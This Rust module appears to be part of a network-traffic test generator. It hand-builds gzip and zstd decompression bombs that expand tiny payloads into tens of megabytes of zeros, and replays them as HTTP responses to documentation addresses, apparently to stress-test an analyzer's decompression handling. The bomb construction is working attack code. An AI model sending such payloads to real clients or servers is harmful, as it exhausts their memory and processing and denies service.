//! Attacks on decompression.

use super::storm::{Storm, Truth, scattered};
use crate::{Conversation, Dir};
use Dir::{Orig, Resp};
use std::io;

/// Zero bytes in one bomb.
const GZIP_LEN: usize = 20 << 20;
const ZSTD_LEN: usize = 64 << 20;

/// Bits, lowest first (RFC 1951 §3.1.1).
#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    count: u32,
}

impl Bits {
    fn put(&mut self, value: u32, len: u32) {
        for i in 0..len {
            if self.count.is_multiple_of(8) {
                self.out.push(0);
            }
            if let Some(last) = self.out.last_mut() {
                *last |= ((value >> i & 1) as u8) << (self.count % 8);
            }
            self.count += 1;
        }
    }
}

/// A gzip file of `len` zero bytes in one block whose longest match (258 bytes) takes two bits: 1,030 to 1, the most that
/// deflate can do (RFC 1951 §3.2.7).
fn gzip_of_zeros(len: usize) -> Vec<u8> {
    let mut b = Bits { out: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3], count: 0 };
    b.put(1, 1);
    b.put(2, 2);
    // 286 lengths of literals, 1 of distances, 18 of code lengths in their odd order (16, 17, 18, 0, 8, 7, …, 1).
    b.put(286 - 257, 5);
    b.put(0, 5);
    b.put(18 - 4, 4);
    for symbol in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1] {
        b.put(u32::from(matches!(symbol, 18 | 1 | 2)) + u32::from(matches!(symbol, 18 | 2)), 3);
    }
    // Code lengths: 1 has one bit (0), 2 has two (01 read from the low end), 18 has two (11).
    let one = |b: &mut Bits| b.put(0b0, 1);
    let two = |b: &mut Bits| b.put(0b01, 2);
    let zeros = |b: &mut Bits, n: u32| {
        b.put(0b11, 2);
        b.put(n - 11, 7);
    };
    two(&mut b);
    zeros(&mut b, 138);
    zeros(&mut b, 117);
    two(&mut b);
    zeros(&mut b, 28);
    one(&mut b);
    one(&mut b);
    // Now 285 is 0, 0 is 10, 256 is 11, and the distance 1 is 0.
    b.put(0b01, 2);
    for _ in 0..(len - 1) / 258 {
        b.put(0, 2);
    }
    for _ in 0..(len - 1) % 258 {
        b.put(0b01, 2);
    }
    b.put(0b11, 2);
    let mut crc = u32::MAX;
    for _ in 0..len {
        crc = (0..8).fold(crc, |c, _| if c & 1 == 0 { c >> 1 } else { c >> 1 ^ 0xedb8_8320 });
    }
    b.out.extend((!crc).to_le_bytes());
    b.out.extend((len as u32).to_le_bytes());
    b.out
}

/// A zstd frame of `len` zero bytes in blocks of 128 KiB that repeat one byte (RFC 8878 §3.1.1).
fn zstd_of_zeros(len: usize) -> Vec<u8> {
    const BLOCK_LEN: usize = 128 << 10;
    // No content size, no checksum; a window of 8 MiB.
    let mut out = vec![0x28, 0xb5, 0x2f, 0xfd, 0, 13 << 3];
    let blocks = len / BLOCK_LEN;
    for i in 0..blocks {
        let header = (BLOCK_LEN as u32) << 3 | 1 << 1 | u32::from(i + 1 == blocks);
        out.extend(&header.to_le_bytes()[..3]);
        out.push(0);
    }
    out
}

/// One bomb in each connection.
fn explode(storm: &mut Storm<'_>, n: u64, coding: &str, bomb: &[u8]) -> io::Result<Truth> {
    let head = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: {coding}\r\nContent-Length: {}\r\n\r\n",
        bomb.len()
    );
    let answer = [head.as_bytes(), bomb].concat();
    for i in 0..n {
        let c = Conversation::new((scattered(i), 40_000), "192.0.2.80:80")
            .syn()
            .send(Orig, b"GET /bomb HTTP/1.1\r\nHost: www.example.org\r\n\r\n")
            .send(Resp, &answer);
        storm.play(&c.fin())?;
    }
    Ok(Truth { flows: Some(n), ..Truth::default() })
}

pub(super) fn gzip(storm: &mut Storm<'_>, n: u64) -> io::Result<Truth> {
    explode(storm, n, "gzip", &gzip_of_zeros(GZIP_LEN))
}

pub(super) fn zstd(storm: &mut Storm<'_>, n: u64) -> io::Result<Truth> {
    explode(storm, n, "zstd", &zstd_of_zeros(ZSTD_LEN))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bombs_are_small() {
        assert!(gzip_of_zeros(1 << 20).len() < 1200);
        assert!(zstd_of_zeros(1 << 20).len() < 64);
    }
}
